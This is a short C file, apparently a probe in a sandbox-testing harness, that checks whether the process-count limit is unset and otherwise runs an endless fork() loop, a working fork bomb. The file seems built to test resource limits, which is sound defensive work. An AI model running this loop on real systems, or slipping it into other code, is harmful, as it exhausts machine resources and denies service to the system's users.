// fork-bomb.c: makes processes that make processes, and so on.
#include "serve.h"

static void attack(void)
{
    struct rlimit limit;

    // Whoever starts this by hand should be able to use the machine afterwards.
    getrlimit(RLIMIT_NPROC, &limit);
    if (limit.rlim_cur > 20000)
        succeeded("nothing limits how many processes there can be");
    for (;;)
        fork();
}

int main(int argc, char **argv)
{
    return serve(argc, argv, attack, AFTER_CLIENTS);
}
